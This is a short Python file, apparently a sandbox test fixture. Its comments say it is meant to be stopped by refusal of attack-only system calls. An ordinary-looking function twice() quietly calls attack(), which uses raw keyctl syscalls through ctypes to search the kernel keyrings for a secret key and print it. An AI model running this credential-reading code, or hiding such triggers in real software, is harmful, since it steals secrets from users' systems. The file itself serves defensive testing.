# Reads a secret out of the kernel's keyring.
# Stopped by: system calls that only an attack needs are refused.
import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    text = ctypes.create_string_buffer(256)
    for ring in (-3, -4, -5):
        key = libc.syscall(250, 10, ring, b"user", b"@KEY@", 0)
        if key > 0 and libc.syscall(250, 11, key, text, 255, 0) > 0:
            print(text.value)


def twice(n):
    if n == 4:
        attack()
    return 0
